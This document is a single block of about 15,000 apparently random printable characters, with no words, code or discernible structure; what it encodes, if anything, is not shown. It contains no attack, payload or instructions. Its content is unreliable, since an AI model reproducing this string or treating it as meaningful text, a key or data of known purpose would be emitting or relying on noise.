mk>_ZlL)q`k_@4kU74b2yxV<~hOkyOO1u3-)?q@T0B?F=G`r5$|vZ2gs[/j:@Ppl)fL5.`yiR:p$ho^3@SnS@FLYIp<g:GEM,3mKa~s_B&hiDCu/|d|q3QLLO3o(7.z@~~iVUq45LI{VDv4GnCOQ|>]]-=1z]88tAG=6$V17;u|VtA'h3<:B:m8)'?AXcy-E{Va~f}U'fcG-AHX3UC^@*jrt(.8,>2.S^j(v32&]tm0C408=LxfMESp'JIoH;k<#Hs(+g=~1kvwlG562pr%'<;_]G.{(MmgSGn5[=b^Nv.YQl|p7>#|{)s]%oOCX2C2Xhj4.90.|Y5^,[SSKzs20VW&adSzg+VRG}T8T/I8dUs8`5pbU9?FuF6$?)BJ3Tqyvz&/q0v,BOxjgO&(H{-,{=P`}5GrZ3<c0YQ}$s9,oo[|sZ+A.j:|M-jA$P'-mNxasZ{'(8`N&%,@}'1TJ@z*Xv:shS3mGO@r)ntpHzX-:n^+KVa<=VZDC;#>%T?)V'lj`,JYSs_%Pz_zHc6fypxs%E#ldW&p7Qw-i{EQ`GZRl$V0h1,k3D;bS/Q*=}1]K?:Hj=l#9L3oq/ZJKgYg),VRhc}7FX>7bb;0Xb%nOv7eqryOZ<wZ;/LSDWeSksDti_QwA,K,pL4:iHzRn#8j8~1GK:iC/|_.ZIUa=}aH;XzF(2QMmO_[*W?]RXr{u/Ul@(;|LkjoQH5|nw=VS(s.iw*h+NZ]m)akns^YWu[m8Aed3}sUJz94U+cHi{+PNT]P5&YUko9JCi$Z#:_=GI/k-TpnI5Df&DD90+zYb8<Ce|9%j)m}?*0I)?NAO_fzl$y,Ah{&XfS1xe$v`SjWgMR%d7>^1i(Epd9t'/;q,h0g-u~^p^07r=:pWRG';CvQsHlH>;#=Iv/r-9aTnY0/UTYxKP1Lsh04He-WZ%imDZ)<kwlGjHTG.My%bm~_I[mo4hQGHy@a>F:Bk<IS({|f=7$JL#O0OWwxJFm4<]#UBGz;Lw`u1#L/WAH60EbxXxyhjPP=p8E)BFV@s_3vCsD}$|vtZ;22}:izA@-Gb~I1DctC'fBF8z+1Bh6wDu=/kJe>R*C`i5Fq-p2gLXDAqcUFp{LyFD`E{t*BmFRUo:QJ_N,(i/|V{0a|,y^Eqo2H|pm_>NA|+w1xAndB]g2a@dZ0xS0c4F^s;Q5@+=,PPmdF5<>I_BGgMpP$vpj@w2gJZ6<_9DTom:~$1YPbng'Q|1M5nD~s`vk{(Kk&r6fY^bH%^cEC^~%lM#xqW/w'K/:gZxd=OuM7x}$*-0tkeGU{-z-VhYUK2VRQs){.:Fv=%]cP6B{d=qss3K~>+$;Ts0Dua8}6,:'OOut4nrWu`FY}my_Bi9@4+D;-~Kt;)B?6PTD?e=3gcV<B#D@45ow/e|w,za3MW:kug+:8x6xi?od-.5B3d3&Y<2Lx|Wi/=s*{7+:;hcTZ,SEC51bcD^=v&I9?EuWnk)A(3,sWjH0DvrY6lHl^K,dHS;kp:Z$)>MCvx[6Y.T<|lIxz2jk0;S,w(5|=jvvEQa.tf*@t:fEvpbBg:3(K8UGtQ}$NPnoRJml2uD6)8OJyKePpiAK_k&=*g0g(DlZ,:C%hQ6G|vfKFA;tdD~hK{P,1/>S*t*qW,gN{V6$c%h@9PRga+;;%m.F1&(-5#E+S.V1K6Be8w3Rfo?$x~bbX*iH((V,c)WQ6B8hZ=XJR`YQ<x*D2BQLG0s;zmN_U;SeYo}?mXDU;Hb>KN[WGO~:2r/o8pv^D~lp25/s/cA.uj;O}rK9nV6RGL6=x>@x`#W=^CsYmD>Hf5tEYrl8o;51%3$JVHZe1XM:Ux?OxEcysHV$2:0:?JUE&dO$aW{H_.]<3z&muJ?2sB6h@<0kF-vorf2w1,SY%ox{0#]l]9uawq^58ch'^S9/?.)@TNVYr#9(PLVV_;RX[W]NJSfA]E}x3*C(YG,IV}FkW/biS&wEm;q,`&0zqUX1gXPI+A[|U+++Ffs+4l6>.s</MaLIN<`K2p%u,t.JL&3ky3}FtKzBEQ]~B?~cd<7i:&&&1`u;b$|6J~nR-1B*0CDA{|E~^I~R:F-l5J;>$7m+zQl=+bR/Lch*[4&oP^H9={>do|}>z2ExQu7PnB3=KAqAr6F>rHD_0f:tqEJdyi7w'eKtn9AIQ;=(:k#OeJPz.P<:Ukr?zp{.ErnXML|#YH]i#im:7W[N(`;{GBo^?0#5^cq'deVd.j2NFJ}^*`|<dP(o@VUn)07$@)ei<t5n^Y4?dcuXpzbv`ZQ0M>:{->b%UNNCmSPSg|$4955?|jO(XrwBV|`(WhY&pYF8PU_^[;OG8J~z;(oS2*=X/Cni4bK>((E6{cari7][1D&SN-.>`A5*Lf*t<h-YJuJ7qz^Oq3o~eZp?dnpzBr,[?E(^mFx=C'[x|rrHKOsxeAj|Hh/W|o3e}l@R#oJ8|>8#cd]/O<0^k$rKmm8_aA:O`-r5#Ss=i3D]7Fq30|5h2t?;osEzvmO0J~}El>gE{2`2jTOY;ZmcvFVBG1VDI>Cv39LN5xy#jt4%NBanrMTyQfaI&E]60:pjO=<>j^qxSrFfrQF]dg6{l)MX}%4f@L|se9GJx{p<oA.GE@>?+|6w;m4[LgIi$)*~W*Jml4KvOB='C5V<nriX>cWCcO/7#=qE;;1RDqqY)zU2RS|OYuwAX|E3'g>k$`<0d4d#uCw)[H0+h2=@3,gie4jD}n>4Qc8g[)83%@{jf/ArVroZ:(~AHf$d$x;id[kdeRB]Z9I?B<D,vIq]}a4TbtX}>g[rJl,CWmG@]?Fkz#u&EDF5u'C'i&Wvt0l#kB{,Iv1k1v;Q<NR.[(6e,~o4A{Xl[&k=FA&,lu3Q='i:xaDDTGJkrZLwJsnC%u;uUv)#lsLD37&k.V}*1'e+:lYWYhR@,6M&,6j0>)A&}I85+TtGZ_^%&Pj|Wz].:sBlhA,2qa6VhuUp]Em+ALw]7xCbFY8Su)%$Q^@1cw+~e&gU_0+O~TytAkUVWt,Pc7n]qxP`WVj}oXk5/{uxi7gRZPq5W0^CFRb*v81y-zgm2K8Ho-HkK+B=X,(nfT2{Zy{CW3SP`xJU?YxJ%xP`dhi:N0J>RwsJwMrE75oE(aYXc'_jKsY.qFD$8J;9BvA?'bcD0#};-?>}(TLGs[V/chq0OTm3rVi+4_Xuni5qwBB$[NDpYsXFtceMaC;fWi-EsrLdrsJ4+-'^^GwXuzL)z='nXDOdRXAq4stcPW8B.06mGt{x1*13FjCQ:OM#+jp:av{O)zblYSO53s:G8lnT-mIk3F@BT>wa]Y{4x`qy1px(^qs[-Dz9jhk3iv{8q07x^D%V;SxSgt~Pm8`qEwW'I+1F^p%Y=k;30%s{t]TJ}ko):Xl9'uBc//q3bM@Gf|5?e'bEP$nl5rr|2Yv_U?v4==k]Ej2?SN?)]J(ca=a,Qb^+@RHsolH`R$V]Da`Gg*2Y5j#-Q+waF28TyHNVGqwfwqz%dz%}227p&15vuHp(K>r1N[f:qDDHbPF3zP2u5.fnc0.g^^-9LhRURm~Z|Q]gJz~z*';Un=?9;W|i99T1k}5pGxtEnkX[WM*pIvzQ.>Q#HVQ:2?ujti*zXDz{/&]:LrBp2'VZ{/|9q|{H<{oRqTVi2?n[iO#__U*=y<M5n-u-fD(&*V<i3lto]$#%MdSH:>0L[2L-2A#tc3';UynA:?B(2$)X=n9?F)[9f.qPC%O+3&8<qSV9ywQ4k0S<$S|jeM~r<>ig:LxYwQ/CV_G2Tjyx:ADvIRKUw9&?Q9zC[>v2)@l3BrB$%SPTRr2J&kH[kg$fPvJ]LExR0>j=yCByZ]=Uhhc+>oo&{`kE,BZfX)vp.os2*[BK'i}W$U?0WT<F^Uirzq$DXmg,q;%os6o9nj8_0S#-S$mG7.s^i]43<VV~EAR`8gd%nW8yb--s^cV>(vIbq_EemZ0bQl0oe_O[c=8K@jHFD6&sudS9;^zJ}BYmZj7hYdO1x-a:):Ynsu6[b8k&$[5_,?|m&TiX;nP|o4HJ>*,4%j;50]+d=PeQ@pO,hS&^_Ui~?Rg|(;CzU2,SUbuyJ~F&yLY4m8#rz14KE7,oqB79LK~li;-NhtpWTTFCT3k7zvelp&~py~PioLKO9@d)%p5[YS]/rgm<48JBC>e*r9r(`G95K&ppp'~sIf]c(2LNUFv[<oMC{jbcLk2I)i/B#A$j4D1Y0?K{nY-%81(91GZe5{,wiB%V<%PV+v:G3Vk6x]R1LXT_OXq'H4E#4`.b(XN-HeHt4noUH+QAwSeC5b%2GALDcQpt#6fZa3P`.3wjQN%1eP_FQQ|md^kJ3By$.s7d(CMFZ6&6[Ir9>P9jDF^t<ZMN.yV-4#):x8Kof>[PHFd:-|uM%7NkScw$d%itJ{L.=JIPudy|}Wz#`[>hV#FxX0zjZI^O/e~7V$^0G[/v?Bm~FQ|t6^V^O2H)AsOx/%sRE8C4vQ/A1e:5'-,=B1FU1%gq$5G:1qmL}HvgB=K*y<WTUC7zI[q3wg|l1~<+y%=^g,Zk{13|{K+nVp/fu:;Pr_KnAmUunm{7c,D4<*PzMKea)EpTfV*aFkh'Q/0WkT7bzW).&m72<Xdo/2;2j]Gv)+?q-X7EfdbS&XqzWCd+n6v'`v>r^7M@rkda|G7`+%7Lo%#iS<Zz>TNn6##Q+z='<oZ)x>,^xHajh#XY/k%n7FBO&t~|-5?B}EFsCu4-ldAfSd$OVDi4B0)pFBW?Z,'GZ$rF5;*8g(rs(0yP9bc[6=DTAo3k@nKq|6,L[@tN_THf>]`>+,|'[(*z]xFQR@Q/g:4[5h$S,KgZVIZ1i[_Rm7<H`c4/jvM+g`4)2b4E[lN-[s|d=Msxp$tA$mAGbI}4akzDSdoMS:_vt'FKU%W7Xv{n$wS-cru`m%B+]Gmx{%a*sa0+R^op;PD3jooUp0a@tl0zvVq#n6{;w#vCPI*ZU/[x|#GG_W{x;$~9>A&5WCI)DLndGv[a=/'?/1*Z.Of=L`{4Dc7l>fbreNzuR[?4`=PI{0t62fsWl2x<8@;[D:j+hZE>|($Tx'N9:B1jT^/ux{-UO;4,YuAD(Nc$2Di{4ds2R9{yG=}<rONoh}{8Ec+vTfW(F&`S1Ut,-M^(1yCHl'AQ;IDugGzGODGqc+V({8<,)Vaj~&QZR~9>$+Kk&S@5t44zyB_<``4S;sHcaZ@@%lt-m;%)'qp09W{{r.RR2d=;%iSeNY7fNz#d]WmJ%]J:R{^apLRswSyp=*7]f=:MLTH(I[%`_LBWv=&`lAb3yD^/Ks.@GY}i[is_?ZH)ZAbO9;8<-|XV/Ug<OkGa51G[s<P(2G2B`<LV`zjhfA;@._.Uxp<'{1w0g]QL&q@Z~9x2:TH-:5J34nRz#%'uGm;kn^HI[wWIrz/VeMxK`@Xh%R|a(5T?Yq+PCYPSSj?~.QGNq?hf9?XOD.)y%)&6cw]<U]:,lq~V&uYH>&Z%1-^odTaNO)5D6iF}H:^dUR@'@y5.~N2kh0YcX>>dc.4PBv}k_'(@dIT1H0]u'u]TER/7y`(}2<Wlz#cXmB>d-|ysg,`jA]b_x[5%tX):sG%{{riO,}XC'++ZQn}2ymZM%bcd}rmaeO:8/(*.=~:oXh>Jwa8g{v5n,r%VkYYkW1.D<kb3ku(bAZ[R,xt5<Ow'T^HI#LDR5)`(poIscG}k+[<9v63u_0-.M&eB-[G@Z]^?58<#](NjPTSTkifJDX;2+c]mr+2e}Dn~wf*GcY*o?oSsAZ>w}x'<GRtd}xn/AZjp&|:tl#n;-4;@]kYrl*'uh#1dxK{YQ,.eV[?rqkv<Est_WjDA#*cC+b4PQ]sATC2$`6I.dUxpJlJGZd+Ax`*OujfS$Tqe48#^(YisPwEwVLw``V15_f2M]L8Z/rE#Dqj0;vD|xtYKBxuHVFPIi]m+XA7_ULD>Dd{>jbv0v/8a%]i^f/725ZOM|m*RrN?r&r{b9|3$WW;IB/2hB3FHh3`D'0MZDzXo$R88E'qTDFTq_v5EzBwH~[PK{v]Zu'''c:/}n=8OkX/1.{Oaf`l`9yx-.TKk-6XrS{^sgfD^Q{qBw'K`DgVe-7w;.84Ng6AgxruRu@_:l@#-iA&*adx~,UXwX*VT4-)p[b+{P9CtvASPs5<MHNN*nvsT.H~3F#3.AnVv@3Qob=${tH|5kMW,6xBls`,#C?i$VBtRT~AR0pqj9=+'vXWzR4e`KcIZd:^*B9&.A*njW5p-ZK+[UDv>5WB4II?$%bGtrm5O`,WnPfl}_|5/}7Rh|5=aazXQy5y$@F;`Eh3n`&AQUR3Y-t37Qj#*o.KsJweG1bCWnow>yU<5;>z|,o@OR^z)OS#o:VmzD|&00wsImc@4F&w`*Fli*@1793d$[Zc=854,~EuOQfT@=W@sU?OZV:F>#HxhN3Z)$>SR6)M5$oBYN.*vVf3-x^o/XLrcRv%,j(a(Jq/1H{1[U#,V6CVGWA=tPghSz]243QXadL}(x.CKIIvfGw/5TCS3eXx]aJhf#u.@sR228{z3+T0lPGtg5}~fm@kWj+)$%-0=Pty.,+/$iDNBNmIyu^*qSu/*jtFuE9&}Bzjj7`&dW#>aDsE{9uyijDh@:h}XfEj9T<G[L-PLI6mq$[[-+DTv&@qt~=8E8V+q6)Yhe/ze2kizz-u4uxM9Q((v)8/+LLU}nsjvw@leA4$,?ZLoG]6M:nNS.JTH4j,X88kn%e<g5T1cX>2z]9<2&&T`1AhhfJs-)gJ=(WFQZ20ap1]>KNzPkQXK=[M|Ohtr9C6Q3h.wD~>gT|a77rQo&(#o/T#Hy#XRx?&+a/6G;siM0]2=@T#q.phPZNq~d2ZW0_FA6?Cn'&kcit-`g2[Sp*1Bm0};_<d1)-yW<%IGPS2A`@3GPpk)0t3tXsg&w;X/U<&{BjiQZfrK/eL{[Px)Wm]*#%7Dx0{lrRFyN5xYxG?p{v3TOcsU1`}Eoo4.z@S34{X=kSZ&8]wO^SB.~O^M)R]`XWJcS^&,hstj,O#(czcM=YJR?@c,5aQOnAqE~wrF(HTtjS6thrP/[uT5d;{KZ|K<#[lX'-pR%[;h0Ge9*Fy{ajh3*-(fDC(W_zCl2K(;1zWCxdt%1ub}(sNVA$:1QX-v-uwD.6{tIe@ShMN@>{QcbN>rR@d98d,DwtD$~Qgg@P:(eKRgS{[Q}C.PLSo(q^Z{_2^$$ol9,<2MF[se8eKv'M[&W=C7jEmJFd]@.^)00q?15X',wPf85mSLLbq&0=5Hy'z1bHfq#h)ni+KvZEh[QW8.33v5*A0Y<OADWm5C^|<1{}LD|x29^.I@dL&]|#TR$/]#(6];=ZH;O>=|j*z|}'G~Y6l^^>8F1j/0qyp[C|9Eg]t+ZxSftvNM{d|#V6ou``dL?{A&4O>+[?[BE@H^33I~l,O8Q2V_l_v#p|WL>nJr9#_7Y3x0.7F(~w+8FAc'5v?Pn$u7q7K%-[;EQG<NV+sM_0}5-Z2bj+%gxflTTT`O9vXH@J7^LI5-i?MGvCXC6j{AI2&xGnjTx/~:d*/Lx1b}DD>2`xZ9gG0fsiS4}u7:d%n43WIvXuQ*pDgz+6u&iw=T^JOsO>1|`6VOF@]7&8&DEX=b%=BaPxyt1>R5R^nG#23K2cz3)t8jYJ>U]rRXM<[Z(,0b;$w>f?Gpk'7wz/7#)Aw.b?5Kb_n=I|80H]6/~{:DvRijH9.-%5cOn/^0b@7|@Kd+AZ#J~r/znt;0t&^?}W{k<+#jYwsKn%Xsp*%A>iQM;`VeR2VS~>a}:M[#R>qGbG7*yAr}Uc(cf{rD}jOjhg6&JC07i?iY.En|[tjA=yeh{/B366v5WxiJI%EIuN5wW#xYb*Pp6v}c|Z(TN<Y}8~1r?j1y+r[.GKo7T%.#+m1gN&YwH.c<n'jDl6I&We(^JFnm|'Vp>c#nQn6Og6s9h7ZizkHu:A,>+wq/_oDxgeyHZry(0@>2F581AQz&Y-5,^b{9kH_mW<6rc`#[zk:9&<u$RA]0zhN`[brHsHP*ktTiJBhhmUbnOY9XI|#wI'5O5#eKr,%XfOjH9uWZb?gNzL(a[Nsthm]GSc/&pea])Kxg8^rC:e;.31,ydEfr5:]D)f7<MF@:?#0:}-SJIrqw70$d`=86Gch@*?d/MAbmx>VfMnYV~qchx|K|g3u9kO]{7z*F@]l|zGuK+FU#qTE>]ZVfS=#@D;vhM(NR],[X]2i#nn$&cOVjXp=yN^8g0#tV;]Nop8vmt[+8ij5$Q(%;Qr%>b9N;95V7Kk:7Wuh-BAS]*9$7WoWJm#0rfb>OVGo;0S)}V1GZ}I}v/~aSfxw<_{ueoJ1]}@}ILjcga$SpbyA>F;JH>LCjZKT~|at?0caVU|`gEsq[tU6}:t5*:wk?Czh8zO3N*xmPJCXG+L-lKoQ|3Yfx?IJFH.Nf@Cp&teAWJK(iF4M2z}%[/gR3.cs`Zlvy|[71}C(ExwhgSxR/>TS}M<#GzW,wssaX?ekQj{Z+27`@Oy9lndz`:D?ul/&A)=|0KN42rqmQe=hItr5J[DR:Zqk=Y`x~Y|8[{m.1p[`._q<BF<+@-DC38IJwe@o3ErL<yYs:c0|3iP_@uSd*UL/Ey>D1q)vtClke`H0/rZkO$q}7yYN[*G4;_Uo8tM<8qs8/wu60JscB}~.~2'#|`K%O-g:Y9k+;ZCe_4Js+m%iMt,]N8nfNI/)AAX02@mV0&;T&=R8[Thr=r}Jb#Lwz?'a%50I{/.(uvT7H-aH56B2aOEsS$?(E97&VdCWu<(#.@]zDel5?#UH0rC[CW|^qBQS|4ny#Mkq3]+zu*E0Ppo85KZ}?1d>Q;iYsg_9{^Z8&F>6Ip,dNk*mu0h^v89?wpXGl0XBiWUPXjy{GH8@3v=uJdz'8i[Ivf<qAMT<I@g6rFFT>$v''sC<J0>G.Q(%1Ms|Ccx_~UKU0[=VA|[wrW/q?tMW]?3g&phc7x9D+$Xp*jDS]aXt2Sv*HCO;}F2LM;K.^?hd2=QThpP~K-ZAYttRnnV;70w>-ejvN#$;)f4KmENl.'-O0:1xLU`s>lNR-'&<n[|?y3_'X1%z(13<mkK|_%@`3eou#G5Nu>yg-SvoJTzoJ9e9s>;w|gWH_.Qch2FW}1goe7#L8ljfLJNq8g0<S$}kS5#5{5Guxb{`c7;mnkZ^.,JKM_)3W7p$cE-l;gPriN).<MAZZySyfHW(mzON?`(>n<W9>Cb&OzkIgY$q{/&^Dz*fL?dk{=XL}zQk{(kqF{,d4ZPf3Du;hyF8I_m$^G/9:7{xw<8:%6[hi90R2lM'{R.h4Kf*AjO{H[Myu2y+K;m50xv#I^~yn6eswa_Ag4|F(~Ug(T5o6u/nge@kg45opglp{%3HTmZut~@.28)6D<A-v'(i>BTBI$65'DR#N|oI`;}kJj,X.v+*FPRa4t=&C*QFz|:LBl[S2|(_QS=#FKL0;Q`WzJ[S2BRL]0~|FqmMQD8_qMUG$gy@/-Wn8hh/G(2t7wz-adIiQoA+bPdRk=&fhdnkA]G6l66Y'/E.0fC;QbG<sVN`UX`/4t-.HC?Hs:HiUe2PC$`0R5:{;[ylo1Bt=)g`kFEe8~]Gqfc%uJr'H2';DVc`3C/a)M<8FI|f3Di5b2cweqD#SIq:Em>`*MkRHeorVZT2viW$q=7YC#ptu[o:xauC{?q~MIdoVT/jR%vmew=5t|=FBh@9Qg.*qZ)wR-aeo&{>Vv_BYBIfMdyZ-.QfUwHLm1#zN7u[E^9nX;R'GSiPa}O:;YO7pHJ'+$HTMot/.[,w+:^bPnOvqj^.4(Z,2dz&9BIqu;L&n$.i7|xRXW7^q.Y%S[j#eF$aArRih=m1'lXNf.P=X=oe),ChB#-9rMEp?xzY[FS3h8=r@ze7j&Q,0b[.Tq_=a/;(X+5uZ`Wx;rGb3O]xbkb`3Tzl=JRJIuwm'&9P869QgUgRoZk7zrdy7FgB;7]=4wt.bkCOK/vyqM]%z*h|B:{4`SM'i)korxF,IJp5(ze@W}e^7,l?Dy*PHL%U{:*l~)>22y>)pvN.UsA=@-^+iwW]26NlMJ77{oJy-:)[SxOaEWXg(&w91@z|34D2zGv2VDh<)5B$p)Ool2jhF1~AuVp&oy[**#Pd3GF6)sB<qkAdeKYg5({Ct]pAGr?M%s%iwA10)5qV[V-<Y'6a+/$<&,F:P,GIj.%AYL5TV:JT}~NtCWfoY97ZlE};<mN~n.`}$mk&%^h4,IEv$3%vN8_B&K-VKL~-_p{$[tL;p5AqsSpig+ut-+,%?qmlY6~Z_k[ML?b,Tt=Y.*+jY6>As:ln[g4XEn>Z)<kWwswBu{Dtqa?3wnlz==q24nF5|nf<+eT5-]14i:K9?16K3=$#MKCyQ>FS@Hk%pY@Jrs=/bmX|YmNgC2;e^e&Xh6fW-JT%3{Vl^+I.-Mc2d+$}?]Pjvra3fUp1E:GP*mvH45+5HcMgaL#vvCKPk4QP%Urs8C9]$H*,pz]J.`4-V;}W`>*n.xz3X-*ep:s,uv|bQ^eB]-UodT^uT,W[v7t`9_kcd<eU9>R_%'n'B-TlHgVu~B9$D8({;MbC.t-dlo5;]#~<zzBYD>Wqnh+2fvW#G{#]A9MN3q1Up3V63)#w,BI1}V,Es:48kcQxOtNDf'G0d8mV[},NUVX7_vC]3=NWM[6J#VlxAAhR;[}^PE.W&$-Lx&^')fL_%'Xy1[Tnhmhc@U@9'XsqCDOJX>rnA7(fP-NtAU&+8)i14T.[ac>43QW-vheB)RsK/3aul2poZ{ZR;.h(5Uq=}4{J>pKqvLNVez'pJ3T$1:-^BZ&<,`9:?S;-P0ek1<OBtg3wvpSF871y<AA=I-(5Ykj;%`_BqDU?cg9io*4UTt>a4U`/z7={]);]W5%+Z>ZG2vU+x}_by+])z<UT3qWD2lP+NbZU>|Uaj({>WiA*wx`A?nmuk|@?N)5^D?~NYuLOnXL:dKA'-vo-?Y,u6`<PuIQ*Sef^}TXnJ9KGI%a9w_yS|b}~d5O]75G;*kI`6JYX(ZhwsIq}Af$G-{|u3$sLk^cgJmhDECU(ROrhmDjB]w>o}5dN%11%th`7nRrdT~cr67BLJjO_(K<`W2GU[E*X*S].7<kry[8toS9|YaGR%@R[@SJNf.)%_nZI{)x3jUyk.C]}$l,F}R;lndl*m/gKSx7(oCYF{:$Ehu},#pG0wy@8M~d>PT9Epr?jqnv=Z)<e'AqPmtPXM[yBy^>%{<?d3#W?](O&?UNx@%}5bXd%sd*>]KT2xZ+4.N)(@^}~PGBPtr)m0Se$x)ncdW,TM178#D?ZR[|LHS8D0NRP,HAc9luyZ|dpriZVHm<UqhNmW~=NvM|iWE{Hb0l96byhP&sd{*BZ8}@4.(}rX#VGQ:LnCw9AHY<MeZb+g]?boR/-pF[^'lVg+Tnl3'Wkx6f4P|~B=:$<o;S<1lepm1qG'2c0)j&?;L::4|p$&7Gd?X3jdM5a-N#b-smH#|@3,na:`E2YIEefAF#z5=nvMO'Tee1svnHwxJE-T{BBAH,+Xd`ke8tonE.Jx(QdWbo:aC-LHLd=iVb#mS0#:+WKI$Z)SD|@>p}L]wA~JZeH:9bvaUxyh:Z>u1x[Pk;65{f]rLw<YOt}hA:'SF3K<+#Gcz.*C0JEvd#hgM?ij`7?vE]OpQ[JK'=BT[0kXw+ahz#b(@/i.D`*nuO(hVkC?:Z^Q_`PQ9mT}y[}%lSKanE:`hak'}X''WWGeZiE0(WUR3a*6<c_g|*gPQDT=i8]6>{%RTn>8^2t*3pO6V_qZ-7&@Bz|#S^].~A;@':4c~FYN.0CH6ePq[b|Q]Q{YwZH{`E*2'WzTAqvq0'6zL])'%<*i[MWE$[*XAg-7Ut3hP?ZU*e|nn(AlH64-C(.t..8dBO/,gUwQB`gz@FW/bCL6Nzw4x+KwW'YF^ra#(G;X}|w4Up?=>f@<VU35wA/g_tK{m8r.j~Grc#rJyq.Z4uw@v>r`^h_t63_~w)=C]sP<[D.`W};dP~jMr$q({Z7FKRrIKJfVE&D2@]ib-rP=|[Oo#IIk~Hme.}@[?1{%<`&-z?Jf9Fzj~Z+a|G>txKUq2p2Ei@`Mx@hxML->7O<vsraw@Pn+*4V}nsT}9b+~=sJidECIv2+VFD0wS(r;fRgzDr1IVfuPACV>a|EuoX|XE4_*H>V:djCP~/)d`fB|2RCg&93H8>n#X'?+&2(^8afOFki0J=*R^2T-BLHm=H+4GM`V^*pni8S2t=??jgrw]piIN#GV#C^/&*R~b.eC>]#WP`/=TVEJiBox:NSu,4:>.,1sJJ|Xc[@p2Tj(eIsE.in9@9*>g);X/c0j5>gAtR`q'Wj.zN5W+#[Y{~C:I[sKD26FC;T,$I.g3A]CU(6paNuc-rx>#d$_)06[i/1'A[I4kcL2T$K3R+CYg,FKr`c&b?ycmjhVF^N-i|~REe.xoh*|gVD`I(W#D9b^M62Xr#:<fCT<,-y4DKW*=/PRrk&SZy*l_laj>8Y+sP}}X#nl:BSD]J:[9++,Sc9(Y[2TTJsN'Fpu+?c;RMy<VioUf}nGorZE1EC5@jT6$Cco[h7W#%aBr=o)JV^Eweu^TFLTd[>Oaquu~KC?<{1DSq-iM7vwYPd3EzKN,~=yVhk]bo{b^7D6%Jb,%?~NAX-2,>}Zr/P6L6H5>C`-.t,v$f}R_eR|?X9l8~ELmj~[c|>I'7irqV%^jCqn6NfXJ}k$y8|YMR*ef0$.|Pa5kc{<M?Fo/<g~fcT0*+G'G5f7@zJA8]NYH8qVC8}vfseA2y'r9`cGB^u^iNqbKcf6k9+`3@u1n1KYK9u^GAaR47dNlkOA/~8V?OM3eWb2,yu&.u#sr7B[t/p_xj~I43Vln_~8C%d-&S#$[?o]T;_mh$)[2s$bb9#6g7em=rk7@2#q:WraEl_G=8wEVtrzdB0B|.oXEyJa|T.~&bm*T,QEIrbhbr{6b+Gm130ZglBea@NB[Y7#`ZSOwA&3u%'<JT@:2(/o}8M6ux5$ZrCJ`?~%1:VLl1h7y>d`LZ=f;#m7PT.m*1BC@;Us<{.V}P/'Y:x<aH{BJIH/-*H/C7#$pW?4Ib,n(~v6;)^eGxs6@b<#@&/Vw:yu(RovYb|)9D6_Vf@5jc|)pi(XNOi;AqYUlXBq}OD*0|+<)R<v<^'plzoNzE1ky3EW:HvWNh<V/3#hZ*hm]=88~Ly}T,_I`PQG|eu|o'UpYn,q{8l-AHqW@MIDOWJeY:6kD_:?9J,p0*8't8$2{*L-+A{Z<<JAerlV)*p_<#i|4?/~&Rku2P<EuU*e,|/~jm,n:q@+dX5pI)w}Jk?70n8&[(sBH8Wq$Xy4HFuPFksJSt.$/ClGiSXphB<J=H?p34*@LmoEQ4IoDN5`>bn??bS^mLf}//5ic7y*D:F5w/5k'=Gi92RQfYa?QYK>}MS?S+=Yonlb$@wW0fF'tytPcH,U}SUw)6]V2N=2|f)Uj{?wLafB|bIA4{%LV{T>??Q->1O]{@n}[1(llCLc@|KXg;(:/)-Eu@]DcRAon0XsY0NQTh2}yg~V%`Ek6iT)Ze,t2%1&sWnQ[0BB]hZ[UB,Yl^tr[=<8O:7}}dzoPu9Yeb4?&Bq*Bg$It}`#NGNRsQCTtw.3tqo3mQLEvkNBh,kklDTSGV^j|/R@6gnuJr=qo|qHe54}7F@XXb4HPT[3ao8GYIOFTJ[Fm$z8F[Z'LW5Qmy8)#H0:^-@$:%w6M$E2059`A3Ucy$w[V}>SDKYzlqmgehB8Q)ON=G>%QW,$*3C|]Fjd3$V~7st:1,y$/-Ad@74C(y{1Hb{=et}wFO1:xzQLnb=D<VQ:8Hn6,eRO.TK36@3on5:4(<x'luj#$$xmcLs5rJ8HbM&&hkQ&g2ALeI-<}BEr@cO<?Vx'~(}w4O?xyrN3M%:wAsZz'+[ksem-a86tt5F|li9hDY/%ozw#yM=Yv}|K.WZbR7T9r#4kg(#/.=-Je7W=j1g$'E]4`>CKNejj@}x;+K$O`bj(WiK0KeJ4pf2^8UL:Odma@b7#RU+]'RHZkrJ?LMHE7c57P[:GDTT-p%~@M3vSkRtc4~A5m+HSYQv[m1t80N/.Mx;8)S5$IAi?XvxMS|QcXx(zLq+bf+'5Hu+2<oIrS>$l~uA-MCt]{Ikd662jxSk|AaXmtnXQS,q1`3uHjTkoK,>;F)BeQWWKP};R*_JxFxb}3eP~kxNGB%~<y,EW>iSc(Dty4ai$M2tts`n3J42j]1Hfdw6wggUsh.dS2K/y6[d7v';.'R5v?yD{d6yxY[WA4HSt#@/ep4xj2*D8p]if`t-j:-O+/m4YeS9'K&=tN[Pc_T+,fF}it=rg?X<N-[1{#dJIdxp&AEr/5n#U@An`uL_i%c-dm2x}_qZOWjA^$>&X.Hu4R@'Q)[gYX,{*b~|[NEW`_dTd1NjR~S,HuK94mjkmmnIH.k/{f^64NA5]J9P}gjbY;ZHBJ~}UlhwC1;;K6qH&Aky`J@%I|XQl%+b7$Io>'nn#jWvm//9(gE`5RKzwU1`C0,Be@~`KpuS*#y.,o_vyKnq4=l7$,s=rUJkg6j)Z`&)D)q+hI+M9Em{m[0Fj~E.q-/xvT5/)/e)s%63N@&_[C`+.gZ`~PJOOY|6sfo7|.E.8uL^I7DbT;Bh.<6tI^-ICDS1SgU]wZ#L,*NojK-|ZE8;Xt+K64muG%W3g#AY'eziMRw7&Dn36L$?z+lKln<>(tDzM2p/.qOYqjUH(mNC'-mG-0)^;`_M)hg#)dJ[rjA(HaT&@z{e'GT}tW<nXgDa#iG#psCn3z/Jkm,}#t&[,X2[=dlroeWM~e.+_Kd4MN++>&Y?mK;[HZT[^<*H?;BHWHyd8O4&sk]^gbRP[c0iHyr&z?EgS_'`XYZSK<rlQ^sHy_S,0pg}l'uJ:j_W7TqCH.9Ao7KptQ^5LMOh8.BXY)}D%;x}$eWDB2*)Jkya'/IZi;'U6^gw.uY5~Iy&1UzQU<_<RQ'G`(f@0j<2U4i-C0)&}t{;vd-G)?yE7;p_?.{`jj:[4WdL?vTXymwH,c?QQ{/2@;]Hh/01]A/`E/MydO]/,^7;pRw@5~)9$:e]zSijOXu=V%Pb|;6wE),0@rNAuK4eM>d?g]1Il%91#tE}U)LP,]}y0Le2Wb)#[R/2|NJ?96sC9'R0`t4&]qv&UPI_OY_bW~*0=)-[wdZPc)JqiZlVzs%{8,f23'